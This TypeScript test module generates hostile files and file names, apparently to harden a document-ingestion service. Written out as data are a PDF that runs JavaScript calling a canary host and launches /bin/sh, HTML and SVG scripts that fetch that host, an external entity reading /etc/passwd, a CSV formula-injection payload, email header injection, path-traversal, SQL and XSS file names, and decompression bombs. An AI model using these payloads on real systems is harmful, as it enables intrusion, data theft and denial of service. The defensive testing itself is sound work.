// Pages, tables, mails and pictures made to do harm, by code: for tests and bench/hostile.ts.
import { deflateSync } from 'node:zlib';
import { aPdf } from './fixtures.ts';
import { type HostileFile, rawZip } from './test-hostile-archives.ts';

const text = (value: string): Buffer => Buffer.from(value, 'latin1');

/** A pdf of objects written by hand; object 1 is the catalog. */
function rawPdf(objects: (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [text('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  const push = (part: Buffer): void => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(at);
    push(text(`${index + 1} 0 obj\n`));
    push(typeof object === 'string' ? text(object) : object);
    push(text('\nendobj\n'));
  }
  const start = at;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  push(
    text(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}
const stream = (content: Buffer, extra = ''): Buffer =>
  Buffer.concat([text(`<</Length ${content.length}${extra}>>\nstream\n`), content, text('\nendstream')]);
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const shown = (words: string): Buffer => text(`BT /F1 12 Tf 50 700 Td (${words}) Tj ET`);

function pagesPdf(count: number, content: Buffer, catalogExtra = ''): Buffer {
  const first = 5;
  return rawPdf([
    `<</Type/Catalog/Pages 2 0 R${catalogExtra}>>`,
    `<</Type/Pages/Count ${count}/Kids[${Array.from({ length: count }, (_, at) => `${first + at} 0 R`).join(' ')}]/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>>>>>`,
    font,
    content,
    ...Array.from(
      { length: count },
      (_, at) => `<</Type/Page/Parent 2 0 R${at === 0 ? '/Contents 4 0 R' : ''}>>`,
    ),
  ]);
}
const encryption = `/Encrypt<</Filter/Standard/V 1/R 2/O<${'41'.repeat(32)}>/U<${'42'.repeat(32)}>/P -4>>/ID[<00><00>]`;

/** A png whose header promises more than its data holds. */
function pngHeader(width: number, height: number): Buffer {
  const header = Buffer.alloc(25);
  header.writeUInt32BE(13);
  header.write('IHDR', 4);
  header.writeUInt32BE(width, 8);
  header.writeUInt32BE(height, 12);
  header.writeUInt8(8, 16);
  header.writeUInt8(2, 17);
  const data = deflateSync(Buffer.alloc(1000));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), header, length, text('IDAT'), data, Buffer.alloc(4)]);
}

const mail = (headers: string, body: string): string =>
  `From: a@example.test\r\nTo: b@example.test\r\n${headers}\r\n\r\n${body}`;
function nestedParts(depth: number): string {
  const open = Array.from(
    { length: depth },
    (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
  ).join('');
  return `From: a@example.test\r\nSubject: djup\r\nMIME-Version: 1.0\r\n${open}Content-Type: text/plain\r\n\r\nInnerst.\r\n`;
}

/** `canary`: an address that nothing may ever ask. */
export const hostilePages = (canary: string): HostileFile[] => [
  { name: 'truncated.pdf', attack: 'cut in the middle', make: async () => { const bytes = await aPdf([[{ text: 'Hej', x: 50, y: 700 }]]); return bytes.slice(0, Math.floor(bytes.length / 2)); }, ends: ['corrupt', 'no_text'] },
  { name: 'encrypted.pdf', attack: 'password', make: () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>', '<</Type/Page/Parent 2 0 R>>'], encryption), ends: ['locked', 'corrupt'] },
  { name: 'program.docx', attack: 'a program under a document\'s name', make: () => Buffer.concat([text('MZ\x90\x00\x03\x00\x00\x00'), Buffer.alloc(4000, 7)]), ends: ['corrupt', 'unsupported_format'] },
  { name: 'script.pdf', attack: 'JavaScript on opening', make: () => pagesPdf(1, stream(shown('Priset ar 120 kr')), `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${canary}/pdf"\\);this.submitForm\\("${canary}/form"\\))>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>`), ends: ['ready'], never: ['launchURL'] },
  { name: 'loop.pdf', attack: 'page tree inside itself', make: () => rawPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 2000000/Kids[2 0 R 2 0 R]>>']), ends: ['corrupt', 'no_text', 'too_many_pages'] },
  { name: 'pages.pdf', attack: '4,000 pages', make: () => pagesPdf(4000, stream(shown('Den enda sidan med text i hela rapporten'))), ends: ['ready', 'took_too_long'] },
  { name: 'claims.pdf', attack: 'more pages than are read', make: () => pagesPdf(5_500, stream(shown('Text'))), ends: ['too_many_pages'] },
  { name: 'inflates.pdf', attack: 'a stream that inflates to 300 MB', make: () => pagesPdf(1, stream(deflateSync(Buffer.concat([shown('Efter trehundra megabyte'), Buffer.alloc(300 * 1024 * 1024, 0x20)]), { level: 9 }), '/Filter/FlateDecode')), ends: ['ready', 'used_too_much_memory', 'took_too_long', 'corrupt'] },
  { name: 'both.pdf', attack: 'a pdf and a zip in one', make: () => Buffer.concat([pagesPdf(1, stream(shown('Ena lasningen av filen'))), rawZip([{ name: 'annan.txt', data: text('andra') }])]), ends: ['ready'] },
  { name: 'both.zip', attack: 'a zip whose first bytes are a pdf', make: () => Buffer.concat([text('%PDF-1.7\n'), rawZip([{ name: 'annan.txt', data: text('andra') }])]), ends: ['corrupt', 'no_text'] },
  { name: 'scripts.html', attack: 'scripts and remote pictures', make: () => `<!DOCTYPE html><html><head><link rel="stylesheet" href="${canary}/css"><script src="${canary}/js"></script></head><body onload="fetch('${canary}/load')"><img src="${canary}/img"><iframe src="${canary}/frame"></iframe><svg><image href="${canary}/svg"/></svg><p>Priset är 120 kr.</p><script>alert('hemlig kod')</script></body></html>`, ends: ['ready'], never: ['hemlig kod'] },
  { name: 'entities.html', attack: 'external entity', make: () => `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/e">]><html><body><p>Priset är 130 kr &x; &y;</p></body></html>`, ends: ['ready', 'unsafe_content'], never: ['root:'] },
  { name: 'deep.html', attack: '50,000 elements inside each other', make: () => `<html><body>${'<div>'.repeat(50_000)}Hej`, ends: ['unsafe_content'] },
  { name: 'script.svg', attack: 'a picture that runs', make: () => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${canary}/svg")</script><text>Hej</text></svg>`, ends: ['unsupported_format'] },
  { name: 'empty.pdf', attack: 'zero bytes', make: () => new Uint8Array(), ends: ['empty_file'] },
  { name: 'million.csv', attack: 'a million rows', make: () => `År;Belopp\n${'2024;1\n'.repeat(1_000_000)}`, ends: ['ready', 'too_large'] },
  { name: 'wide.csv', attack: 'one row of 10 MB', make: () => `a;b\n${'x'.repeat(10_000_000)};1\n`, ends: ['unsafe_content', 'ready', 'too_large', 'took_too_long', 'used_too_much_memory'] },
  { name: 'utf16.csv', attack: 'UTF-16', make: () => Buffer.from('\ufeffKonto\tBelopp\nInköp\t1234,5\n', 'utf16le'), ends: ['ready'] },
  { name: 'formula.csv', attack: 'formula injection', make: () => `Namn;Värde\n=cmd|'/c calc'!A1;@SUM(1+1)\n=HYPERLINK("${canary}/csv");-2+3\n`, ends: ['ready'] },
  { name: 'nested.eml', attack: '1,500 parts inside each other', make: () => nestedParts(1500), ends: ['ready', 'corrupt', 'unsafe_content', 'no_text'] },
  { name: 'headers.eml', attack: 'headers inside a header', make: () => mail('Subject: =?utf-8?Q?Hej=0D=0ABcc:_offer@example.test=0D=0A?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain', 'Mötet är den 4 maj.'), ends: ['ready'] },
  { name: 'paths.eml', attack: 'attachment with a path', make: () => mail('Subject: bilaga\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b', '--b\r\nContent-Type: text/plain\r\n\r\nSe bilaga.\r\n--b\r\nContent-Type: text/plain; name="../../../tmp/insyn-evil-mail.txt"\r\nContent-Disposition: attachment; filename="../../../tmp/insyn-evil-mail.txt"\r\n\r\nHyran höjs.\r\n--b--\r\n'), ends: ['ready'] },
  { name: 'truncated.msg', attack: 'cut in the middle', make: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), ends: ['corrupt', 'unsupported_format'] },
  { name: 'gigapixel.png', attack: 'a picture of 1.07 gigapixels', make: () => pngHeader(32_768, 32_768), ends: ['too_large'] },
  { name: 'bomb.gif', attack: 'a picture of 4 gigapixels, 10,000 times', make: () => Buffer.concat([text('GIF89a\xff\xff\xff\xff\x80\x00\x00\x00\x00\x00\xff\xff\xff'), ...Array.from({ length: 10_000 }, () => text('\x2c\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x44\x01\x00')), text('\x3b')]), ends: ['unsupported_format'] },
  { name: 'deep.rtf', attack: '200,000 groups inside each other', make: () => `{\\rtf1 Hej ${'{'.repeat(200_000)}`, ends: ['ready', 'unsafe_content', 'corrupt'] },
  { name: 'brackets.md', attack: 'a pattern that some parsers take for ever for', make: () => `# Rubrik\n\n${'['.repeat(3_000)}${'*a _b '.repeat(1_000)}`, ends: ['ready', 'took_too_long', 'unsafe_content', 'used_too_much_memory'] },
  { name: 'word.txt', attack: 'one word of 5 MB', make: () => 'a'.repeat(5_000_000), ends: ['ready', 'took_too_long', 'too_large'] },
  { name: 'invisible.txt', attack: 'nothing but zero-width characters', make: () => '\u200b\u200c\u200d\u2060\ufeff'.repeat(500), ends: ['no_text', 'ready'] },
]; // biome-ignore format: one line each

/** Names that would lead elsewhere, deceive, or break a file system; under which name the file must stand, or the refusal. */
export const hostileNames: [sent: string, stands: RegExp | 'invalid_name' | 'invalid_file'][] = [
  ['../../../../tmp/insyn-evil-dots.txt', /^insyn-evil-dots\.txt$/],
  ['/tmp/insyn-evil-root.txt', /^insyn-evil-root\.txt$/],
  ['..\\..\\windows\\insyn-evil-back.txt', /^insyn-evil-back\.txt$/],
  ['C:\\insyn-evil-drive.txt', /^insyn-evil-drive\.txt$/],
  ['noll\u0000insyn.txt', 'invalid_file'],
  ['CON.txt', /CON\.txt$/],
  ['avtal.txt:stream', /avtal\.txt.stream$/],
  ['rapport\u202efdp.txt', /^rapportfdp\.txt$/],
  ['bud\u200bget\u2060.txt', /^bud.?get.?\.txt$/],
  [`${'n'.repeat(496)}.txt`, /^n{1,251}\.txt$/],
  ['%2e%2e%2finsyn-evil-encoded.txt', /insyn-evil-encoded\.txt$/],
  ["'; drop table chunks; --.txt", /drop table/],
  ['<img src=x onerror=alert(1)>.txt', /onerror/],
  ['..', 'invalid_name'],
  ['\u202e\u200f', 'invalid_name'],
];
